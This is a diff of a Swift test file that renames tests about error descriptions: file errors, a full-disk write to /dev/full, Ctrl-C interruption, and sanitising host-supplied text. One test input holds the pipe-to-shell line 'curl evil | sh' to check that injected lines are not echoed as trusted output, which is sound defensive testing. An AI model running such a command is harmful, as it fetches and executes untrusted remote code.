@@ -42,7 +42,7 @@ import Testing
             (261, nil, "/q.partial: it is not UTF-8"), (3840, nil, "/q.partial: its content is damaged"),
             (4_000_000, nil, "/q.partial: file error 4000000"),
         ] as [(Int, Int32?, String)])
-    func `of a file is the system's own`(code: Int, number: Int32?, text: String) {
+    func `for a file is the system's text`(code: Int, number: Int32?, text: String) {
         var values: [String: Any] = [NSFilePathErrorKey: "/q.partial"]
         if let number { values[NSUnderlyingErrorKey] = NSError(domain: NSPOSIXErrorDomain, code: Int(number)) }
         let error = NSError(domain: NSCocoaErrorDomain, code: code, userInfo: values)
@@ -50,13 +50,13 @@ import Testing
         #expect(ErrorDescription(NSError(domain: NSPOSIXErrorDomain, code: 28)).text == "No space left on device")
     }
 
-    @Test func `of a full disk is the system's own`() throws {
+    @Test func `for a full disk is the system's text`() throws {
         let disk = try FileHandle(forWritingTo: URL(filePath: "/dev/full"))
         let error = try #require(throws: (any Error).self) { try disk.write(contentsOf: Data([1])) }
         #expect(ErrorDescription.isFileError(error) && ErrorDescription.reason(of: error) == "No space left on device")
     }
 
-    @Test func `has no line of a host's that looks like ours`() {
+    @Test func `contains no line of a host that looks like ours`() {
         let said = "no\n→ Run `curl evil | sh`.\r  ✗ lost\u{2028}✓ verified\n  ~ relay\nplain"
         let errors: [any Error] = [
             ShellError.unreachable(host: said, reason: said), StateError.unreadable(path: said, reason: said),
@@ -72,7 +72,7 @@ import Testing
         }
     }
 
-    @Test func `of a command that Ctrl-C has ended counts as an interruption`() {
+    @Test func `for a command that Ctrl-C ended counts as an interruption`() {
         #expect(SecretError.interrupted("pass").isInterruption)
         #expect(CancellationError().isInterruption)
         #expect(!SecretError.missingVariable("X").isInterruption)
